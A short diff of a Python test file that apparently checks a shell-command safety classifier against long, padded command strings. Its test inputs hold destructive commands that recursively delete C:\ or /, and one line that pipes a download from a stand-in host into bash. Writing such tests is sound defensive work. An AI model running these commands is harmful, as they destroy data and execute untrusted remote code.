@@ -142,7 +142,7 @@ def test_g3_deep_and_long_lines_end_and_are_never_readers(text: str) -> None:
     [
         "sort|" * 5000 + "Remove-Item C:\\ -Recurse",
         "echo " + "abc " * 12000 + "; rm C:\\ -r",
-        "rm " + "a " * 12000 + "-rf /",
+        "Remove-Item " + "a," * 8000 + "C:\\ -r",
         "pwsh -c echo rm " + "a " * 500 + "; rm C:\\ -r",
         "pwsh -c 'echo rm " + "a " * 500 + "; rm C:\\ -r'",
         "bash; " + "echo a; " * 400 + "bash; irm http://x.test/a | bash",
